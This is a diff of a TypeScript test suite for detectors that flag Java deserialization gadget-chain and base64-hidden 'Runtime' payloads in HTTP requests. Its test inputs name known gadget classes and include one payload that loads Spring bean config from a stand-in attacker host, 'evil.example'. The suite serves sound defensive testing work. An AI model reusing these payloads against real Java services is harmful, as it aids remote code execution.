@@ -8,20 +8,37 @@ import { detectPayloads } from "./index.ts";
 import { base64Encodings, JAVA_PARANOID } from "./java-paranoid.ts";
 
 type Event = ReturnType<typeof normalizeEvent>;
-const query = (value: string) => normalizeEvent({ url: { original: `/p?x=${encodeURIComponent(value)}` }, http: { request: { method: "GET" } } });
-const json = (value: unknown) => normalizeEvent({ url: { original: "/api" }, http: { request: { method: "POST", body: { content: JSON.stringify(value) } } } });
-const form = (body: string) => normalizeEvent({ url: { original: "/save" }, http: { request: { method: "POST", body: { content: body } } } });
-const cookie = (value: string) => normalizeEvent({ url: { original: "/home" }, http: { request: { method: "GET", cookie: value } } });
-const header = (name: string, value: string) => normalizeEvent({ url: { original: "/upload" }, http: { request: { method: "PUT", headers: { [name]: value } } } });
+const query = (value: string) =>
+  normalizeEvent({ url: { original: `/p?x=${encodeURIComponent(value)}` }, http: { request: { method: "GET" } } });
+const json = (value: unknown) =>
+  normalizeEvent({
+    url: { original: "/api" },
+    http: { request: { method: "POST", body: { content: JSON.stringify(value) } } },
+  });
+const form = (body: string) =>
+  normalizeEvent({ url: { original: "/save" }, http: { request: { method: "POST", body: { content: body } } } });
+const cookie = (value: string) =>
+  normalizeEvent({ url: { original: "/home" }, http: { request: { method: "GET", cookie: value } } });
+const header = (name: string, value: string) =>
+  normalizeEvent({ url: { original: "/upload" }, http: { request: { method: "PUT", headers: { [name]: value } } } });
 
 const OURS = new Set(JAVA_PARANOID.map((d) => d.id));
-const ours = (e: Event, paranoia: 1 | 2 | 3 = 3) => detectPayloads(e, { paranoia }).filter((d) => OURS.has(d.id)).map((d) => d.id);
+const ours = (e: Event, paranoia: 1 | 2 | 3 = 3) =>
+  detectPayloads(e, { paranoia })
+    .filter((d) => OURS.has(d.id))
+    .map((d) => d.id);
 
 /** Deterministic bytes that are not text (so the value does not decode to readable base64 text). */
 const noise = (seed: string, length: number) => createHash("sha512").update(seed).digest().subarray(0, length);
 /** A binary blob with `word` at byte offset `offset` (mod 3), base64-encoded. */
 const blob = (word: string, offset: number, encoding: "base64" | "base64url" = "base64") =>
-  Buffer.concat([Buffer.from([0x01, 0xfe]), noise(word, 10 + offset), Buffer.from(word), Buffer.from([0x00, 0x7f]), noise(`${word}!`, 9)]).toString(encoding);
+  Buffer.concat([
+    Buffer.from([0x01, 0xfe]),
+    noise(word, 10 + offset),
+    Buffer.from(word),
+    Buffer.from([0x00, 0x7f]),
+    noise(`${word}!`, 9),
+  ]).toString(encoding);
 
 const b64url = (text: string) => Buffer.from(text).toString("base64url");
 const jwt = (claims: Record<string, unknown>) => {
@@ -36,7 +53,10 @@ describe("Java injection detectors, paranoia 2 and 3", () => {
     ["sn-java-gadget-chain", form("chain=ChainedTransformer&key=TiedMapEntry")],
     ["sn-java-gadget-chain", cookie("obj=groovy MethodClosure")],
     ["sn-java-gadget-chain", header("x-payload", "PrototypeFactory$PrototypeSerializationFactory")],
-    ["sn-java-gadget-chain", json({ bean: "FileSystemXmlApplicationContext", config: "http://evil.example/beans.xml" })],
+    [
+      "sn-java-gadget-chain",
+      json({ bean: "FileSystemXmlApplicationContext", config: "http://evil.example/beans.xml" }),
+    ],
     ["sn-java-gadget-chain", query("getRuntime.whileclosure")],
     ["sn-java-gadget-chain", query("Lorg/apache/commons/collections/functors/ForClosure;")],
     ["sn-java-gadget-chain", query("ForClosure")],
@@ -52,7 +72,13 @@ describe("Java injection detectors, paranoia 2 and 3", () => {
     ["sn-java-base64-runtime", form(`blob=${encodeURIComponent(blob("Runtime", 1))}`)],
     ["sn-java-base64-runtime", query(blob("ClassLoader", 2))],
     ["sn-java-base64-runtime", query(Buffer.from("runtime").toString("base64"))],
-    ["sn-java-base64-runtime", header("x-data", `${jwt({ sub: "42" }).split(".")[0]}.${Buffer.from([0xff, 0x00, ...Buffer.from("Runtime")]).toString("base64")}`)],
+    [
+      "sn-java-base64-runtime",
+      header(
+        "x-data",
+        `${jwt({ sub: "42" }).split(".")[0]}.${Buffer.from([0xff, 0x00, ...Buffer.from("Runtime")]).toString("base64")}`,
+      ),
+    ],
   ])("%s fires on %#", (id, event) => {
     expect(ours(event)).toContain(id);
   });
@@ -67,15 +93,45 @@ describe("Java injection detectors, paranoia 2 and 3", () => {
     }
   });
 
-  const hashes = Array.from({ length: 300 }, (_, n) => createHash("sha512").update(`session ${n}`).digest(n % 2 ? "base64" : "base64url")).join(" ");
+  const hashes = Array.from({ length: 300 }, (_, n) =>
+    createHash("sha512")
+      .update(`session ${n}`)
+      .digest(n % 2 ? "base64" : "base64url"),
+  ).join(" ");
 
   it.each([
-    ["a signed JWT", header("authorization", `Bearer ${jwt({ sub: "1234567890", name: "Jane Doe", iat: 1716239022, roles: ["admin", "billing"], scope: "openid profile email" })}`)],
-    ["a JWT in a cookie", cookie(`id_token=${jwt({ iss: "https://login.example.com/", aud: "web", exp: 1893456000, email: "jane@example.com" })}`)],
-    ["session ids and hashes", cookie(`sid=${createHash("sha256").update("a").digest("hex")}; csrftoken=${createHash("sha256").update("b").digest("base64url")}`)],
+    [
+      "a signed JWT",
+      header(
+        "authorization",
+        `Bearer ${jwt({ sub: "1234567890", name: "Jane Doe", iat: 1716239022, roles: ["admin", "billing"], scope: "openid profile email" })}`,
+      ),
+    ],
+    [
+      "a JWT in a cookie",
+      cookie(
+        `id_token=${jwt({ iss: "https://login.example.com/", aud: "web", exp: 1893456000, email: "jane@example.com" })}`,
+      ),
+    ],
+    [
+      "session ids and hashes",
+      cookie(
+        `sid=${createHash("sha256").update("a").digest("hex")}; csrftoken=${createHash("sha256").update("b").digest("base64url")}`,
+      ),
+    ],
     ["many random base64 blobs", json({ blobs: hashes })],
-    ["a data URL image", json({ avatar: `data:image/png;base64,${Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), noise("png", 64)]).toString("base64")}` })],
-    ["base64 JSON that says runtime", cookie(`prefs=${Buffer.from(JSON.stringify({ runtime: "nodejs20.x", region: "eu-west-1", theme: "dark" })).toString("base64")}`)],
+    [
+      "a data URL image",
+      json({
+        avatar: `data:image/png;base64,${Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), noise("png", 64)]).toString("base64")}`,
+      }),
+    ],
+    [
+      "base64 JSON that says runtime",
+      cookie(
+        `prefs=${Buffer.from(JSON.stringify({ runtime: "nodejs20.x", region: "eu-west-1", theme: "dark" })).toString("base64")}`,
+      ),
+    ],
     ["prose about foreclosures", query("forclosure homes and foreclosure listings near me")],
     ["a domain", query("https://www.forclosure.com/listings and lazymap.example.org")],
     ["a path", query("/blog/forclosure-tips")],
@@ -86,7 +142,12 @@ describe("Java injection detectors, paranoia 2 and 3", () => {
   });
 
   it("does not run at paranoia 1", () => {
-    for (const event of [json({ transformers: ["InvokerTransformer"] }), query("functors.ForClosure"), cookie(`state=${blob("ProcessBuilder", 2)}`), query(blob("ClassLoader", 2))]) {
+    for (const event of [
+      json({ transformers: ["InvokerTransformer"] }),
+      query("functors.ForClosure"),
+      cookie(`state=${blob("ProcessBuilder", 2)}`),
+      query(blob("ClassLoader", 2)),
+    ]) {
       expect(ours(event, 3)).not.toEqual([]);
       expect(ours(event, 1)).toEqual([]);
     }
